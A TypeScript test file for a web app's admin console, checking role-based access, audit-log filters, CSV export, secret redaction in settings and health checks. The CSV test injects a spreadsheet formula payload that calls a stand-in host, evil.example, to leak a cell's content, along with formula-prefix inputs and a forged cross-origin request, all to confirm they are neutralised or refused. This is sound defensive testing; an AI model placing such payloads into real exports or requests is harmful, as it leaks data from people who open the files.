// The console's overview, audit log, settings and health: who may see what, what they show, and the log as a file.
import { expect, test } from 'vitest'
import { getConfig } from '../../src/config.ts'
import { vars } from '../../src/config-vars.ts'
import { listSettings } from '../../src/core/admin/settings.ts'
import { toCell } from '../../src/pages/console/audit/file.ts'
import { eventsOf, idOf, newName, rows } from '../support/actors.ts'
import { giveRole } from '../support/admins.ts'
import { runCron } from '../support/cron.ts'
import { Client, ORIGIN, platform, type Reply } from '../support/kith.ts'
import { oncePerFile } from '../support/once-per-file.ts'
import { alertIn, formOf, open, send, unescapeHtml } from '../support/pages.ts'
import { type Person, signedIn, signedInPerson, verifiedPerson } from '../support/people.ts'

/** Somebody whose role has these scopes. */
async function holderOf(scopes: string): Promise<Person> {
  const role = newName('role')
  await rows(
    `INSERT INTO roles (id, display_name, ranking, description, scopes, system, created_at, updated_at) VALUES (?, 'R', 100, '', ?, 0, 0, 0)`,
    ...[role, `delegated:all ${scopes}`],
  )
  const person = await verifiedPerson(newName('holder'))
  await giveRole(person, role)
  return signedIn(person)
}

const SECTIONS = {
  '/admin/overview': 'admin:statistics:read',
  '/admin/metrics': 'admin:statistics:read',
  '/admin/audit': 'admin:audit:read',
  '/admin/settings': 'admin:settings:read',
  '/admin/health': 'admin:settings:read',
}
const auditor = oncePerFile(() => holderOf('admin:audit:read admin:profile:read'))
const operator = oncePerFile(() => holderOf('admin:settings:read'))
const statistician = oncePerFile(() => holderOf('admin:statistics:read'))

test('each section opens for its scope alone, and the navigation shows only what the viewer may open', async () => {
  const holders = { 'admin:audit:read': auditor, 'admin:settings:read': operator, 'admin:statistics:read': statistician }
  const nobody = await signedInPerson(newName('nobody'))
  for (const [held, holder] of Object.entries(holders)) {
    const { client } = await holder()
    for (const [path, scope] of Object.entries(SECTIONS)) {
      const { status, text } = await client.get(path)
      expect(status, `${path} for ${held}`).toBe(scope === held ? 200 : 403)
      if (status === 200) {
        for (const [other, needed] of Object.entries(SECTIONS)) expect(text.includes(`href="${other}"`), other).toBe(needed === held)
      }
    }
  }
  for (const path of Object.keys(SECTIONS)) expect((await nobody.client.get(path)).status).toBe(403)
  const { client } = await statistician()
  expect((await client.get('/admin')).headers.get('location')).toBe('/admin/overview')
})

test('the overview draws 30 days of each figure without style attributes, each with a table', async () => {
  const { client } = await statistician()
  const { text } = await open(client, '/admin/overview')
  expect(text.match(/<rect/g)).toHaveLength(180)
  expect(text.match(/<details>/g)).toHaveLength(6)
  expect(text).not.toContain('style=')
})

async function pageOf(query: string): Promise<string> {
  const { client } = await auditor()
  return (await open(client, `/admin/audit${query}`)).text
}

test('the audit log is filtered by person, actor, type and day, and leads to the person', async () => {
  const [person, other] = [await signedInPerson(newName('seen')), await signedInPerson(newName('unseen'))]
  const actor = await auditor()
  await rows(
    `INSERT INTO audit_events (id, user_id, actor_id, type, user_agent, place, detail, created_at) VALUES ((SELECT MAX(id) + 1 FROM audit_events), ?, ?, 'banned', 'curl', 'Paris, FR', ?, ?)`,
    ...[idOf(person.id), idOf(actor.id), 'too <loud>', Date.now()],
  )
  const byName = await pageOf(`?person=@${person.username.toUpperCase()}`)
  expect(byName).toContain(`/admin/people/${person.id}`)
  expect(byName).not.toContain(other.username)
  const address = encodeURIComponent(person.email.toUpperCase())
  const byAddress = await pageOf(`?person=${address}`)
  expect([byAddress.includes(`/admin/people/${person.id}`), byAddress.includes(other.username)]).toEqual([true, false])
  expect(await pageOf(`?person=${person.id}`)).toContain('too &lt;loud&gt;')
  const byActor = await pageOf(`?actor=${actor.username}&type=moderation`)
  expect(byActor).toContain('too &lt;loud&gt;')
  expect(await pageOf(`?actor=${actor.username}&type=signing_in`)).not.toContain('too &lt;loud&gt;')
  const [today, tomorrow] = [0, 1].map((days) => new Date(Date.now() + days * 86_400_000).toISOString().slice(0, 10))
  expect(await pageOf(`?person=${person.id}&from=${today}&to=${today}`)).toContain('too &lt;loud&gt;')
  expect(await pageOf(`?person=${person.id}&from=${tomorrow}`)).not.toContain('too &lt;loud&gt;')
  expect(await pageOf('?person=nobody_at_all')).toContain('No events match.')
})

test.each(['?type=everything', '?from=yesterday', '?after=1', `?person=${'x'.repeat(65)}`])(
  'a wrong filter %s is refused',
  async (query) => {
    const { client } = await auditor()
    expect((await client.get(`/admin/audit${query}`)).status).toBe(400)
  },
)

test.each([
  ['person', 'Person'],
  ['actor', 'Administrator'],
])('a name in %s shows the page again with what was typed, and says at the field what is wrong', async (name, label) => {
  const { client } = await auditor()
  const reply = await client.get(`/admin/audit?${name}=Anna+Smith&type=banned&from=2026-01-02`)
  expect([reply.status, alertIn(reply)]).toEqual([400, `${label} must be a user name, an email address or an id.`])
  for (const part of [`id="${name}-error"`, 'value="Anna Smith"', 'value="banned" selected', 'value="2026-01-02"', 'href="/admin/people"'])
    expect(reply.text).toContain(part)
  const stranger = await new Client().get(`/admin/audit?${name}=Anna+Smith`)
  expect([stranger.status, stranger.headers.get('location')]).toEqual([303, expect.stringMatching(/^\/sign-in/)])
})

async function fileOf(query: string): Promise<Reply> {
  const { client } = await auditor()
  return send(client, formOf(await open(client, `/admin/audit${query}`), '/admin/audit/file'))
}

test('the file has the events of the view in safe cells, and the download leaves a trail', async () => {
  const [person, actor] = [await signedInPerson(newName('filed')), await auditor()]
  const evil = '=HYPERLINK("https://evil.example/?"&A1)'
  await rows(
    `INSERT INTO audit_events (id, user_id, type, user_agent, place, detail, created_at) VALUES ((SELECT MAX(id) + 1 FROM audit_events), ?, 'banned', '@x', '', ?, ?)`,
    ...[idOf(person.id), evil, Date.now()],
  )
  const reply = await fileOf(`?person=${person.username}`)
  expect(reply.status, reply.text).toBe(200)
  expect(reply.headers.get('content-disposition')).toMatch(/^attachment; filename="?audit-log-\d{4}-\d\d-\d\d\.csv"?$/)
  expect(reply.headers.get('content-type')).toBe('text/csv; charset=utf-8')
  const lines = reply.text.trimEnd().split('\r\n')
  expect(lines[0]).toBe('time,type,person,username,actor,actorUsername,clientId,clientName,userAgent,place,detail,id')
  const [{ n }] = (await rows<{ n: number }>('SELECT COUNT(*) AS n FROM audit_events WHERE user_id = ?', idOf(person.id))) as [
    { n: number },
  ]
  expect(lines).toHaveLength(n + 1)
  expect(reply.text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1)"`)
  expect(reply.text).toContain(",'@x,")
  expect(await eventsOf(actor)).toContain('audit_exported')
})

test.each(['=1', '+1', '-1', '@a', '\t=1', ' =1', '\r\n=1', '|x', '%x', '\uff1d1', '\uff201'])('a cell %j is no formula', (text) => {
  expect(toCell(text).replace(/^"/, '')).toMatch(/^'/)
})

test.each([
  ['Mozilla/5.0 (X11; =1)', "Mozilla/5.0 (X11;' =1)"],
  ['a;@b', "a;'@b"],
  ['Mozilla/5.0 (X11; Linux; rv:1)', 'Mozilla/5.0 (X11; Linux; rv:1)'],
])('a spreadsheet that separates cells by semicolons finds no formula in %j', (text, cell) => {
  expect(toCell(text)).toBe(cell)
})

test('only the form of the page gets the file', async () => {
  const { client } = await auditor()
  expect((await client.get('/admin/audit/file')).status).toBe(405)
  const foreign = await client.post('/admin/audit/file', new URLSearchParams(), { headers: { origin: 'https://evil.example' } })
  expect(foreign.status).toBe(403)
  const stale = await client.post('/admin/audit/file', new URLSearchParams(), { headers: { origin: ORIGIN } })
  expect([stale.status, stale.headers.get('location')]).toEqual([303, '/admin/audit'])
})

test('settings: each by its name; of a secret not one byte', async () => {
  const { client } = await operator()
  const { text } = await open(client, '/admin/settings')
  for (const name of Object.keys(vars.shape)) expect(text, name).toContain(`>${name}<`)
  const config = getConfig(platform.env)
  const env = platform.env as unknown as Record<string, string | undefined>
  for (const { name, group, value } of listSettings(config)) {
    if (group !== 'secrets') continue
    expect(value, name).toBeNull()
    // Any piece of it: keys are base64url, or members of a JWK.
    const pieces = (env[name] ?? '').match(/[\w-]{12,}/g) ?? []
    for (const piece of pieces) expect(text.includes(piece.slice(0, 12)) && !/^(test|dev)-/.test(piece), `${name}: ${piece}`).toBe(false)
  }
})

test('settings: what a URL carries besides its address is not shown', () => {
  const config = getConfig(platform.env)
  const secret = { MAIL_API_URL: 'https://kith:hidden@relay.example/send', TURNSTILE_URL: 'https://turnstile.example/verify?key=hidden' }
  const settings = listSettings({ ...config, vars: { ...config.vars, ...secret } })
  const value = (wanted: string) => settings.find(({ name }) => name === wanted)?.value
  expect([value('MAIL_API_URL'), value('TURNSTILE_URL')]).toEqual(['https://…@relay.example/send', 'https://turnstile.example/verify?…'])
})

test('a setting that sounds like a secret is one, or is known to be none', () => {
  const harmless =
    /^(ACCESS|REFRESH)_TOKEN_|_ACCESS_KEY_ID$|^PASSWORD_RANGE_URL$|^TURNSTILE_SITE_KEY$|^PASSWORD_LENGTH_MIN$|^SOFTWARE_STATEMENT_JWKS$|^PASSKEY_/
  const settings = listSettings(getConfig(platform.env))
  const suspicious = settings.filter(({ name }) => /KEY|SECRET|TOKEN|PASSWORD|JWK/.test(name) && !harmless.test(name))
  expect(suspicious.filter(({ group }) => group !== 'secrets').map(({ name }) => name)).toEqual([])
  expect(suspicious.length).toBeGreaterThan(5)
})

const stateOf = (text: string, title: string) =>
  unescapeHtml(new RegExp(`${title}</th>.*?<span class="tag[^>]*>([^<]*)`, 's').exec(text)?.[1] ?? '')

test('health: each store answers; cron is late until it runs; what is given up or overdue is told', async () => {
  const { client } = await operator()
  await rows("DELETE FROM sweep_cursors WHERE sweep = 'last_run'")
  await rows("INSERT INTO object_tombstones (bucket, key, due_at, created_at) VALUES ('media', 'late', 1, 1)")
  await rows(
    "INSERT INTO webhook_endpoints (id, url, events, secret, created_at, updated_at, failing_since) VALUES (1, 'https://hooks.example/', '*', '', 1, 1, 2)",
  )
  const before = (await open(client, '/admin/health')).text
  expect(stateOf(before, 'Last run of cron')).toBe('Look at this')
  expect(stateOf(before, 'Objects that should be gone')).toBe('Look at this')
  expect(stateOf(before, 'Webhooks that fail or were switched off')).toBe('Look at this')
  for (const title of ['Database is migrated', 'Clocks agree', 'KV can be written and read', 'Signing keys']) {
    expect(stateOf(before, title), title).toBe('Good')
  }
  for (const bucket of ['files', 'pictures']) expect(stateOf(before, `Bucket of ${bucket} can be written and read`)).toBe('Good')
  await rows('UPDATE webhook_endpoints SET failing_since = NULL')
  await runCron()
  const after = (await open(client, '/admin/health')).text
  expect(stateOf(after, 'Last run of cron')).toBe('Good')
  expect(stateOf(after, 'Objects that should be gone')).toBe('Good')
  expect(stateOf(after, 'Webhooks that fail or were switched off')).toBe('Good')
  await rows('DELETE FROM webhook_endpoints')
  await rows("UPDATE sweep_cursors SET updated_at = 1 WHERE sweep = 'last_run'")
  expect(stateOf((await open(client, '/admin/health')).text, 'Last run of cron')).toBe('Broken')
})
